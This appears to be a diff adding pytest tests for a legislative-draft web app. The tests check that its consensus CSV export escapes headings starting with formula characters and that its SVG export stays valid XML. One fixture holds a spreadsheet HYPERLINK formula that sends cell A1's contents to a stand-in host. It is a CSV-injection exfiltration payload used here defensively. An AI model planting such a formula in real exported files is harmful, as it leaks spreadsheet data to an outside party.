@@ -1,0 +1,52 @@
+"""The consensus CSV and SVG carry any heading safely: no formula runs, the XML stays valid."""
+
+import csv
+import io
+
+import pytest
+from fastapi.testclient import TestClient
+from lxml import etree
+from sqlmodel import Session
+
+from app.drafts import editing
+from app.drafts.models import Draft
+from tests.factories import make_draft, make_member, uid_of
+
+FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Ver")'
+
+
+@pytest.fixture
+def draft(db: Session) -> Draft:
+    return make_draft(db)
+
+
+def rename(db: Session, draft: Draft, label: str, heading: str) -> None:
+    secretariat = make_member(db, role="secretariat")
+    text = "La presente Ley tiene por objeto promover la formalización."
+    editing.revise(db, secretariat, draft, uid_of(db, draft, label), 1, text, heading, "Prueba")
+    db.commit()
+
+
+class TestConsensusCsv:
+    @pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+    def test_a_heading_that_looks_like_a_formula_is_text(
+        self, client: TestClient, db: Session, draft: Draft, start: str
+    ) -> None:
+        rename(db, draft, "Artículo 1.", start + FORMULA[1:])
+        response = client.get("/drafts/ley-de-prueba/consensus.csv")
+        rows = list(csv.reader(io.StringIO(response.text)))
+        headings = {row[1]: row[2] for row in rows[1:]}
+        assert headings["Artículo 1."] == "'" + start + FORMULA[1:]
+        assert headings["Artículo 2."] == "Ámbito"  # ordinary cells are untouched
+
+
+class TestConsensusSvg:
+    def test_a_heading_with_characters_xml_forbids_still_gives_a_valid_map(
+        self, client: TestClient, db: Session, draft: Draft
+    ) -> None:
+        rename(db, draft, "Artículo 1.", "Objeto\uffff de la \ufffeLey")
+        response = client.get("/drafts/ley-de-prueba/consensus.svg")
+        assert response.status_code == 200
+        root = etree.fromstring(response.content)  # raises on invalid XML
+        titles = [t.text or "" for t in root.iter("{http://www.w3.org/2000/svg}title")]
+        assert any(title.startswith("Artículo 1. Objeto de la Ley") for title in titles)
